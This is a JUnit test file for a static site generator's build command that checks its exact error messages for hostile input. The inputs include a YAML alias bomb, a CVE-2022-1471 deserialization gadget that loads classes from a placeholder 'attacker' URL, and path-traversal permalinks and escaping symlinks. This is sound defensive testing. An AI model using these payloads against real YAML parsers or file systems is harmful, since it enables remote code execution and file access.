package dev.colophon.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.colophon.BuildOptions;
import dev.colophon.Colophon;
import dev.colophon.diagnostic.BuildFailedException;
import dev.colophon.diagnostic.Diagnostic;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Instant;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile input, one tiny site per case, each with the exact messages it must give. Every case is built
 * by the command (exit code, messages, no stack trace) over a previous site, which must survive a failed
 * build byte for byte, and nothing may change outside the destination; error cases are built through the
 * API too, which must throw the typed exception with the same diagnostics.
 */
class HostileInputTest {

    private static final String POST = "_posts/2021-01-01-a.md";
    private static final String OK = "---\ntitle: Ok\n---\nBody.\n";

    @TempDir
    Path temp;

    /**
     * One case.
     *
     * @param files the site's files besides {@code _config.yml} (which always sets {@code url})
     * @param config more {@code _config.yml} lines
     * @param destination where to build, from the site folder and the test's temporary folder
     * @param expected every message line, warnings included, in order; {@code {site}} is the site folder
     * @param exit the command's exit code
     */
    record Case(String name, Map<String, byte[]> files, String config, Function<Path[], Path> destination,
            List<String> expected, int exit, Setup setup) {

        @Override
        public String toString() {
            return name;
        }

        Case config(String more) {
            return new Case(name, files, config + more, destination, expected, exit, setup);
        }

        Case file(String path, String text) {
            return file(path, text.getBytes(StandardCharsets.UTF_8));
        }

        Case file(String path, byte[] bytes) {
            Map<String, byte[]> more = new LinkedHashMap<>(files);
            more.put(path, bytes);
            return new Case(name, more, config, destination, expected, exit, setup);
        }

        Case into(Function<Path[], Path> where) {
            return new Case(name, files, config, where, expected, exit, setup);
        }

        Case then(Setup more) {
            return new Case(name, files, config, destination, expected, exit, more);
        }

        Case fails(String... lines) {
            return new Case(name, files, config, destination, List.of(lines), 1, setup);
        }

        Case builds(String... warnings) {
            return new Case(name, files, config, destination, List.of(warnings), 0, setup);
        }
    }

    @FunctionalInterface
    interface Setup {
        void prepare(Path site) throws IOException;
    }

    private static Case named(String name) {
        return new Case(name, Map.of(), "", dirs -> dirs[1].resolve("out"), List.of(), 0, site -> { });
    }

    private static Case post(String name, String text) {
        return named(name).file(POST, text);
    }

    static Stream<Case> cases() {
        byte[] laughs = ("---\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
                + "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
                + "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
                + "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n"
                + "h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\ni: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]\n---\nBody\n")
                .getBytes(StandardCharsets.UTF_8);
        byte[] binary = new byte[1024];
        for (int i = 0; i < binary.length; i++) {
            binary[i] = (byte) i;
        }
        String permalinkHint = " (use a permalink inside the site, without '..', backslashes or a drive letter)";
        return Stream.of(
                // Front matter and YAML
                post("front matter not closed", "---\ntitle: A\nBody without end\n")
                        .fails(POST + ":1:1: error: front matter is not closed (end the block with a line '---')"),
                post("invalid YAML", "---\ntitle: [unclosed\n---\nBody\n")
                        .fails(POST + ":3:1: error: expected ',' or ']', but got <stream end> "
                                + "(check the YAML syntax of the front matter)"),
                post("YAML indented with a tab", "---\ntitle: A\ntags:\n\t- x\n---\nBody\n")
                        .fails(POST + ":4:1: error: a tab character indents this line, and YAML allows only spaces "
                                + "(indent with spaces)"),
                named("billion laughs").file(POST, laughs)
                        .fails(POST + ":2:1: error: more than 50 aliases of lists or mappings, as in a YAML "
                                + "\"billion laughs\" bomb (keep YAML under 3 MiB, 50 levels of nesting and 50 "
                                + "aliases of lists or mappings)"),
                post("CVE-2022-1471 class tag", "---\ntitle: !!javax.script.ScriptEngineManager "
                        + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker/\"]]]]\n---\nBody\n")
                        .fails(POST + ":2:8: error: YAML tag '!!javax.script.ScriptEngineManager' is not allowed "
                                + "(remove the tag; only !!str, !!int, !!float, !!bool, !!null, !!timestamp, !!seq "
                                + "and !!map are read)"),
                post("another class tag", "---\ntitle: A\nx: !!java.net.URL [\"http://x/\"]\n---\nBody\n")
                        .fails(POST + ":3:4: error: YAML tag '!!java.net.URL' is not allowed (remove the tag; only "
                                + "!!str, !!int, !!float, !!bool, !!null, !!timestamp, !!seq and !!map are read)"),
                post("a local tag", "---\ntitle: !ruby/object:Gem::Installer {}\n---\nBody\n")
                        .fails(POST + ":2:8: error: YAML tag '!ruby/object:Gem::Installer' is not allowed (remove "
                                + "the tag; only !!str, !!int, !!float, !!bool, !!null, !!timestamp, !!seq and !!map "
                                + "are read)"),
                post("front matter that is a list", "---\n- a\n- b\n---\nBody\n")
                        .fails(POST + ":2:1: error: front matter must be a mapping of keys to values (write one "
                                + "'key: value' per line between the '---' lines)"),
                post("front matter that is a scalar", "---\njust text\n---\nBody\n")
                        .fails(POST + ":2:1: error: front matter must be a mapping of keys to values (write one "
                                + "'key: value' per line between the '---' lines)"),
                post("duplicate key", "---\ntitle: A\ntitle: B\n---\nBody\n")
                        .fails(POST + ":3:1: error: duplicate key 'title' (the key is already on line 2; keep one of "
                                + "the two)"),
                post("a title that is a number", "---\ntitle: 42\n---\nBody\n").builds(),
                post("a title that is a list", "---\ntitle: [a, b]\n---\nBody\n")
                        .fails(POST + ":2:1: error: 'title' must be text, not a list (write title: followed by the "
                                + "text; quote it if it contains ': ' or starts with [ or {)"),
                post("a title that is null", "---\ntitle: null\n---\nBody\n").builds(),
                post("tags that are a mapping", "---\ntitle: A\ntags: {a: 1}\n---\nBody\n")
                        .fails(POST + ":3:1: error: 'tags' must be a list of words or words separated by spaces, "
                                + "not a mapping (write tags: [one, two])"),
                // Dates
                post("an invalid date", "---\ntitle: A\ndate: 2021-02-30\n---\nBody\n")
                        .fails(POST + ":3:1: error: date '2021-02-30' is not a real day (check the day and month)"),
                named("an invalid date in the file name").file("_posts/2021-02-30-a.md", OK)
                        .fails("_posts/2021-02-30-a.md: error: the date in the file name, 2021-02-30, is not a real "
                                + "day (name posts YYYY-MM-DD-title.md with a real date)"),
                post("an ambiguous date", "---\ntitle: A\ndate: 03/04/2021\n---\nBody\n")
                        .builds(POST + ":3:1: warning: date '03/04/2021' is read day first, as Jekyll reads it: "
                                + "2021-04-03 (write it as YYYY-MM-DD to say which day you mean)"),
                post("a date without a year", "---\ntitle: A\ndate: March 26\n---\nBody\n")
                        .fails(POST + ":3:1: error: date 'March 26' has no year (write it as YYYY-MM-DD or "
                                + "YYYY-MM-DD HH:MM:SS +HHMM)"),
                post("a date out of range", "---\ntitle: A\ndate: 99999-01-01\n---\nBody\n")
                        .fails(POST + ":3:1: error: date '99999-01-01' is not a date (write it as YYYY-MM-DD or "
                                + "YYYY-MM-DD HH:MM:SS +HHMM)"),
                named("a post without a date at all").file("_posts/hello.md", OK)
                        .builds("_posts/hello.md: warning: skipped: a post's file name must start with its date "
                                + "(rename it YYYY-MM-DD-hello.md)"),
                post("a front matter date that disagrees with the file name", "---\ntitle: A\ndate: 2022-05-05\n---\nB\n")
                        .builds(),
                // Bytes
                named("bytes that are not UTF-8").file(POST, "---\ntitle: A\n---\nCaf\u00e9 ok\n"
                        .getBytes(StandardCharsets.ISO_8859_1))
                        .fails(POST + ":4:4: error: file is not valid UTF-8: byte 0xE9 at byte offset 20 (save the "
                                + "file as UTF-8)"),
                named("a byte order mark and CRLF line ends").file(POST,
                        "\uFEFF---\r\ntitle: A\r\n---\r\nBody\r\n\r\nMore\r\n").builds(),
                post("a replacement character written on purpose", "---\ntitle: A\n---\nA \uFFFD is text.\n")
                        .builds(),
                post("an empty file", "")
                        .builds(POST + ":1:1: warning: the post is empty; its page will have no text (write the post, "
                                + "or delete the file)"),
                named("a binary file in _posts").file(POST, binary)
                        .fails(POST + ":2:118: error: file is not valid UTF-8: byte 0x80 at byte offset 128 (save the "
                                + "file as UTF-8)"),
                named("a 50 MB post").then(site -> {
                    byte[] big = new byte[50 * 1024 * 1024];
                    Arrays.fill(big, (byte) 'a');
                    byte[] head = "---\ntitle: Big\n---\n".getBytes(StandardCharsets.UTF_8);
                    System.arraycopy(head, 0, big, 0, head.length);
                    Files.write(site.resolve(POST), big);
                }).file(POST, "").fails(POST + ":1:1: error: the file is 50.0 MB, more than the 16 MB a post or page "
                        + "may have (split it, or raise content_size_limit (in MB) in _config.yml)"),
                // Liquid
                post("an unclosed Liquid block", "---\ntitle: A\n---\nLine\n{% if x %}\nno end\n")
                        .fails(POST + ":5:1: error: {% if %} is not closed (add {% endif %} where its block ends)"),
                post("misnested Liquid blocks", "---\ntitle: A\n---\n{% for x in (1..2) %}\n{% if x %}\n{% endfor %}\n")
                        .fails(POST + ":6:1: error: {% endfor %} closes {% if %} of line 5 (close {% if %} with "
                                + "{% endif %} first)"),
                post("an unclosed Liquid output", "---\ntitle: A\n---\nText {{ page.title \nmore\n")
                        .fails(POST + ":4:6: error: '{{' is not closed (end the output with '}}')"),
                post("an unknown filter in strict mode", "---\ntitle: A\n---\n{{ 'x' | nosuch }}\n")
                        .config("liquid:\n  error_mode: strict\n")
                        .fails(POST + ":4:10: error: unknown Liquid filter 'nosuch' (check its name, or add the plugin "
                                + "that provides it)"),
                post("an unknown filter in the default mode", "---\ntitle: A\n---\n{{ 'x' | nosuch }}\n")
                        .builds(POST + ":4:10: warning: unknown Liquid filter 'nosuch', left as it is (check its name, "
                                + "or add the plugin that provides it)"),
                post("an unknown tag in the default mode", "---\ntitle: A\n---\n{% nosuchtag %}\n")
                        .builds(POST + ":4:4: warning: unknown Liquid tag 'nosuchtag', left as it is (check its name, "
                                + "or add the plugin that provides it)"),
                post("an include that does not exist", "---\ntitle: A\n---\n\n{% include nope.html %}\n")
                        .fails(POST + ":5:1: error: include _includes/nope.html does not exist (create it, or fix the "
                                + "name in the {% include %} tag)"),
                post("an include that includes itself", "---\ntitle: A\n---\n{% include me.html %}\n")
                        .file("_includes/me.html", "x {% include me.html %}")
                        .fails(POST + ":4:1: error: includes nest more than 64 deep at 'me.html': an include probably "
                                + "includes itself (remove the include that includes itself)"),
                post("a layout cycle", "---\ntitle: A\nlayout: a\n---\nBody\n")
                        .file("_layouts/a.html", "---\nlayout: b\n---\n{{ content }}")
                        .file("_layouts/b.html", "---\nlayout: a\n---\n{{ content }}")
                        .fails("_layouts/b.html:2:1: error: layouts nest in a cycle: a → b → a (remove the 'layout:' "
                                + "that closes the cycle)"),
                post("a layout that does not exist", "---\ntitle: A\nlayout: nosuch\n---\nBody\n")
                        .fails(POST + ":3:1: error: layout 'nosuch' does not exist (create _layouts/nosuch.html, or use "
                                + "one of: category, default, home, page, post, tag, tags)"),
                // Permalinks
                post("a permalink with ..", "---\ntitle: A\npermalink: /../../etc/x.html\n---\nBody\n")
                        .fails(POST + ":3:1: error: permalink '/../../etc/x.html' is not allowed: it contains '..'"
                                + permalinkHint),
                post("a permalink like an absolute path", "---\ntitle: A\npermalink: //etc/passwd\n---\nBody\n")
                        .builds(),
                post("a permalink with %2e%2e", "---\ntitle: A\npermalink: /%2e%2e/%2e%2e/x.html\n---\nBody\n")
                        .fails(POST + ":3:1: error: permalink '/%2e%2e/%2e%2e/x.html' is not allowed: it contains '..' "
                                + "once decoded" + permalinkHint),
                post("a permalink with backslashes", "---\ntitle: A\npermalink: '/a\\..\\..\\x.html'\n---\nBody\n")
                        .fails(POST + ":3:1: error: permalink '/a\\..\\..\\x.html' is not allowed: it contains a "
                                + "backslash" + permalinkHint),
                post("a permalink with NUL", "---\ntitle: A\npermalink: \"/a\\0b.html\"\n---\nBody\n")
                        .fails(POST + ":3:1: error: permalink '/a\\0b.html' is not allowed: it contains a NUL "
                                + "character" + permalinkHint),
                post("a permalink with a Windows drive", "---\ntitle: A\npermalink: 'C:/Windows/x.html'\n---\nBody\n")
                        .fails(POST + ":3:1: error: permalink '/C:/Windows/x.html' is not allowed: it starts with a "
                                + "drive letter" + permalinkHint),
                post("two posts with the same URL", "---\ntitle: A\npermalink: /same.html\n---\nBody\n")
                        .file("_posts/2021-01-02-b.md", "---\ntitle: B\npermalink: /same.html\n---\nBody\n")
                        .fails("_posts/2021-01-02-b.md:3:1: error: the URL /same.html is also the URL of " + POST
                                + " (give one of them another permalink)"),
                // The file system
                named("a symbolic link loop").then(site -> Files.createSymbolicLink(site.resolve("loop"), Path.of(".")))
                        .fails("loop: error: loop is a symbolic link to the folder {site}, which contains it: a loop; "
                                + "links to folders are not followed (remove the link, or copy the folder)"),
                named("a symbolic link out of the source").then(site -> {
                    Path secret = Files.writeString(site.resolveSibling("secret.txt"), "secret");
                    Files.createSymbolicLink(site.resolve("secret.txt"), secret);
                }).fails("secret.txt: error: secret.txt is a symbolic link to {temp}/secret.txt, outside the source "
                        + "folder"),
                named("a destination inside the source").file("index.html", OK).into(dirs -> dirs[0].resolve("_site"))
                        .builds(),
                named("the source as destination").into(dirs -> dirs[0])
                        .fails("error: the destination is the source folder {site}: building would replace your sources "
                                + "(choose another destination, e.g. _site)"),
                named("the root as destination").into(dirs -> Path.of("/"))
                        .fails("error: the destination / contains the source folder {site}: building would replace "
                                + "your sources (choose another destination, e.g. _site)"),
                named("a destination that cannot be written").into(dirs -> dirs[1].resolve("file.txt/out"))
                        .then(site -> Files.writeString(site.resolveSibling("file.txt"), "not a folder"))
                        .fails("error: cannot write the destination {temp}/file.txt/out: {temp}/file.txt is not a "
                                + "folder (choose a destination you can write to)"),
                // Configuration and data
                named("an invalid _config.yml").config("title: [x\n")
                        .fails("_config.yml:3:1: error: expected ',' or ']', but got <stream end> (check the YAML "
                                + "syntax of the file)"),
                named("a wrong type for a known key").config("paginate: many\n")
                        .fails("_config.yml:2:1: error: 'paginate' must be a whole number, 0 or more (see the "
                                + "configuration section of the README)"),
                named("a list where one value belongs").config("permalink: [a]\n")
                        .fails("_config.yml:2:1: error: 'permalink' must be a single value (see the configuration "
                                + "section of the README)"),
                named("an invalid data file").file("_data/x.json", "{\"a\": }")
                        .fails("_data/x.json:1:7: error: invalid JSON: Unexpected character ('}' (code 125)): expected "
                                + "a valid value (JSON String, Number, Array, Object or token 'null', 'true' or "
                                + "'false') (check the JSON syntax)"),
                // Several problems at once: all reported, in file order
                post("three broken files in one build", "---\ntitle: [unclosed\n---\n")
                        .file("_posts/2021-01-02-b.md", "---\ndate: 2021-02-30\n---\n")
                        .file("_posts/2021-01-03-c.md", "---\ntitle: never closed\n")
                        .fails(POST + ":3:1: error: expected ',' or ']', but got <stream end> (check the YAML syntax "
                                        + "of the front matter)",
                                "_posts/2021-01-02-b.md:2:1: error: date '2021-02-30' is not a real day (check the day "
                                        + "and month)",
                                "_posts/2021-01-03-c.md:1:1: error: front matter is not closed (end the block with a "
                                        + "line '---')"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void hostileInput(Case c) throws Exception {
        Path site = Files.createDirectories(temp.resolve("site"));
        Files.writeString(site.resolve("_config.yml"), "url: https://example.org\n" + c.config());
        for (var file : c.files().entrySet()) {
            Files.createDirectories(site.resolve(file.getKey()).getParent());
            Files.write(site.resolve(file.getKey()), file.getValue());
        }
        c.setup().prepare(site);
        Path destination = c.destination().apply(new Path[] {site, temp});
        boolean ordinary = destination.startsWith(temp) && !destination.startsWith(site);
        if (ordinary && Files.isDirectory(destination.getParent())) {
            // The previous build, which a failed build must leave as it was.
            Files.createDirectories(destination.resolve("2020"));
            Files.writeString(destination.resolve("index.html"), "<p>the previous site</p>");
            Files.writeString(destination.resolve("2020/old.html"), "<p>an old post</p>");
        }
        Map<String, String> before = snapshot(temp);

        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        int exit = Main.run(new PrintWriter(out, true), new PrintWriter(err, true), "build", "-s", site.toString(),
                "-d", destination.toString());

        String messages = err.toString().replace("\r", "");
        List<String> lines = messages.lines().filter(l -> !l.startsWith("Build failed")).toList();
        List<String> expected = c.expected().stream()
                .map(l -> l.replace("{site}", site.toString()).replace("{temp}", temp.toString())).toList();
        assertEquals(expected, lines, "messages of: " + c.name() + "\n" + messages + out);
        assertEquals(c.exit(), exit, messages);
        assertFalse(messages.contains("\tat ") || messages.contains("Exception") || out.toString().contains("\tat "),
                "no stack trace without --trace:\n" + messages);

        Map<String, String> after = snapshot(temp);
        if (exit != 0) {
            assertEquals(before, after, "a failed build changes nothing, the previous site included");
        } else {
            // Only the destination changed.
            Map<String, String> outside = new TreeMap<>(after);
            outside.keySet().removeIf(p -> temp.resolve(p).startsWith(destination));
            Map<String, String> outsideBefore = new TreeMap<>(before);
            outsideBefore.keySet().removeIf(p -> temp.resolve(p).startsWith(destination));
            assertEquals(outsideBefore, outside, "a build writes nothing outside its destination");
        }

        if (exit != 0 && expected.get(0).contains(": error: ") && !expected.get(0).startsWith("error:")) {
            // The API gives the same problems as a typed exception.
            BuildFailedException e = assertThrows(BuildFailedException.class, () -> Colophon.create().build(site,
                    destination, BuildOptions.defaults().withNow(Instant.parse("2024-06-01T12:00:00Z"))));
            List<String> errors = e.errors().stream().map(Diagnostic::toString).toList();
            assertEquals(expected.stream().filter(l -> l.contains(": error: ")).toList(), errors);
        }
    }

    /** Every file under a folder (symbolic links as links), with a hash of its bytes. */
    private static Map<String, String> snapshot(Path root) {
        Map<String, String> files = new TreeMap<>();
        try (Stream<Path> all = Files.walk(root)) {
            for (Path p : (Iterable<Path>) all::iterator) {
                String key = root.relativize(p).toString();
                if (Files.isSymbolicLink(p)) {
                    files.put(key, "-> " + Files.readSymbolicLink(p));
                } else if (Files.isRegularFile(p)) {
                    files.put(key, HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256")
                            .digest(Files.readAllBytes(p))));
                } else {
                    files.put(key + "/", "");
                }
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
        return files;
    }
}
